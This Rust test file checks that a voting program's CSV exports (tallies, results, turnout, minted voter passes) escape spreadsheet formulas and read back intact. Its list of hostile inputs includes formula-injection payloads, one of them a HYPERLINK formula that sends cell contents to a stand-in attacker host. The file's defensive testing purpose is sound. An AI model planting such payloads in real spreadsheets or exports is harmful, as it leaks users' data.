//! All CSV tables of the program, with hostile texts in every text field. No spreadsheet finds a
//! formula, and the program reads its own files back.

use std::{fs, path::Path};

use acclaim_contest::csv_cell::unescape_formulas;
use csv::{ReaderBuilder, StringRecord};
use serde_json::{Value, json};

use crate::{
    backends::succeeded,
    booth::OPENED,
    server::acclaim,
    site::{Site, ballot},
};

const MARK: &str = "\u{feff}";

/// Texts that spreadsheets run as formulas. Some become formulas when a file is split at another
/// separator, or read without its quotation marks.
const HOSTILE: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "＝1+1",
    "\"=1+1\"",
    "x;=1+1;",
    "' ＠SUM(A1)",
];

#[test]
fn no_table_has_a_formula_and_every_text_is_read_back() {
    let site = Site::start();
    let entry = |(number, title): (usize, &&str)| json!({"id": format!("a{number}"), "category": "a", "title": title});
    let more = json!({
        "category": [{"id": "a", "title": HOSTILE[0]}],
        "entry": HOSTILE.iter().enumerate().map(entry).collect::<Vec<_>>(),
        "publication": {"standings": "public", "entries": "after-close", "result": "closed"},
    });
    site.create_open("prize", OPENED, &more);
    let passes = passes_are_read_back(&site);
    for (number, pass) in passes.iter().enumerate().take(4) {
        assert_eq!(site.cast("prize", pass, &ballot(&[&*format!("a{number}")])).status, 201);
    }
    let withdrawn = json!({"entry": "a7", "reason": HOSTILE[5]});
    site.staff.post("/v1/contests/prize/withdrawals", "withdraw", &withdrawn).unwrap();

    // Groups and channels are identifiers.
    let turnout = run(&site, &["turnout", "prize", "--csv"]);
    has_no_formula(&turnout);
    assert!(
        turnout.starts_with("by,label,ballots\r\nhour,") && turnout.contains("\r\ngroup,africa,4\r\n"),
        "{turnout}"
    );
    let mut tables = Vec::new();
    tables.push(get(&site, "tally", "?format=csv"));
    site.staff.post("/v1/contests/prize/close", "close", &json!({})).unwrap();
    tables.push(get(&site, "tally", "?format=csv"));
    tables.push(get(&site, "result", "?format=csv"));
    tables.push(run(&site, &["contest", "result", "prize", "--format", "csv"]));
    let log = site.export("prize", "log");
    let log = log.to_str().unwrap();
    tables.push(succeeded(&acclaim().args(["tally", log, "--format", "csv"]).output().unwrap()));
    tables.push(fs::read_to_string(Path::new(log).join("result.csv")).unwrap());
    for table in &tables {
        has_no_formula(table);
        let texts = table_of(table, b',');
        let texts: Vec<String> =
            texts.iter().flatten().map(|cell| unescape_formulas(cell).into_owned()).collect();
        assert!(texts.iter().any(|text| HOSTILE.contains(&text.as_str())), "{table}");
    }
    excel_gets_a_mark(&site, log);
}

/// Mints passes for hostile subjects, and again from the file of passes. Each line must be the same
/// voter.
fn passes_are_read_back(site: &Site) -> Vec<String> {
    let folder = site.folder.path();
    let voters = folder.join("voters.txt");
    fs::write(&voters, HOSTILE.join("\n")).unwrap();
    let mint = |subjects: &Path, template: &str| {
        let subjects = subjects.to_str().unwrap();
        let args =
            ["pass", "mint", "prize", "--subjects-are", "ids", "--subjects", subjects, "--group", "africa"];
        run(site, &[&args[..], &["--link-template", template]].concat())
    };
    let first = mint(&voters, "=HYPERLINK(\"{pass}\")");
    has_no_formula(&first);
    let rows = table_of(&first, b',');
    assert_eq!(rows.len(), 1 + HOSTILE.len());
    let column = |rows: &[StringRecord], index: usize| -> Vec<String> {
        rows.iter().skip(1).map(|row| row[index].to_owned()).collect()
    };
    // The column of subjects as it is in the file, copied into a list.
    let guarded = folder.join("guarded.txt");
    fs::write(&guarded, column(&rows, 0).join("\n")).unwrap();
    let again = mint(&guarded, "{pass}");
    assert_eq!(column(&table_of(&again, b','), 0), column(&rows, 0), "the subjects must be the same");
    let marked = run(site, &["pass", "mint", "prize", "--count", "1", "--excel"]);
    assert!(marked.starts_with(&format!("{MARK}subject,pass,link\n")), "{marked}");
    column(&rows, 1)
}

fn excel_gets_a_mark(site: &Site, log: &str) {
    for (plain, marked) in [
        (get(site, "tally", "?format=csv"), get(site, "tally", "?format=csv&excel=true")),
        (get(site, "result", "?format=csv"), get(site, "result", "?format=csv&excel=true")),
        (run(site, &["turnout", "prize", "--csv"]), run(site, &["turnout", "prize", "--csv", "--excel"])),
        (
            run(site, &["contest", "result", "prize", "--format", "csv"]),
            run(site, &["contest", "result", "prize", "--format", "csv", "--excel"]),
        ),
    ] {
        assert_eq!(marked, format!("{MARK}{plain}"));
    }
    let tally = acclaim().args(["tally", log, "--format", "csv", "--excel"]).output().unwrap();
    assert!(succeeded(&tally).starts_with(&format!("{MARK}category,")));
    for wrong in [&["tally", log, "--excel"][..], &["tally", log, "--format", "html", "--excel"]] {
        let output = acclaim().args(wrong).output().unwrap();
        assert_eq!(output.status.code(), Some(2));
        assert!(String::from_utf8(output.stderr).unwrap().contains("--excel is for --format csv"));
    }
    let refused = site.send("GET", "/v1/contests/prize/tally?excel=true", &[], b"");
    refused.problem(400, "invalid-parameter");
}

/// Returns the output of a command on the server.
fn run(site: &Site, args: &[&str]) -> String {
    let url = format!("http://{}", site.address);
    let output = acclaim().args(args).args(["--url", &url]).env("ACCLAIM_KEY", &site.key).output().unwrap();
    assert!(output.status.success(), "{args:?}: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

fn get(site: &Site, what: &str, query: &str) -> String {
    let bearer = format!("Bearer {}", site.key);
    let answer =
        site.send("GET", &format!("/v1/contests/prize/{what}{query}"), &[("authorization", &bearer)], b"");
    assert_eq!((answer.status, &*answer.content_type), (200, "text/csv; charset=utf-8"), "{answer:?}");
    answer.text
}

fn table_of(text: &str, separator: u8) -> Vec<StringRecord> {
    let mut reader = ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(separator)
        .from_reader(text.as_bytes());
    reader.records().map(Result::unwrap).collect()
}

/// Checks that no cell is a formula, for every separator that a spreadsheet may use.
fn has_no_formula(text: &str) {
    for separator in *b",;\t" {
        for cell in table_of(text, separator).iter().flatten() {
            let content = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '"');
            let is_number = content.parse::<f64>().is_ok();
            let signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
            assert!(is_number || content == "-" || !content.starts_with(signs), "{cell:?} in {text}");
        }
    }
}

/// A tally during the voting, read immediately after each ballot, has the ballot.
#[test]
fn a_tally_read_after_a_ballot_has_it_embedded() {
    has_each_ballot_at_once(&Site::start(), 40);
}

#[test]
fn a_tally_read_after_a_ballot_has_it_in_a_cluster() {
    has_each_ballot_at_once(&Site::start_clustered(), 10);
}

fn has_each_ballot_at_once(site: &Site, ballots: u64) {
    site.create_open("prize", OPENED, &json!({}));
    for voter in 0..ballots {
        let pass = site.pass("prize", &format!("mailto:{voter}@example.org"));
        let recorded = site.cast("prize", &pass, &ballot(&["a1"]));
        assert_eq!(recorded.status, 201, "{recorded:?}");
        let tally: Value = site.staff.get("/v1/contests/prize/tally").unwrap().json().unwrap();
        let size = |answer: &Value| answer["log"]["size"].as_u64().unwrap();
        assert!(size(&tally) >= size(&recorded.body), "{tally} after {}", recorded.body);
        assert_eq!(tally["ballots"]["counted"], voter + 1);
    }
}
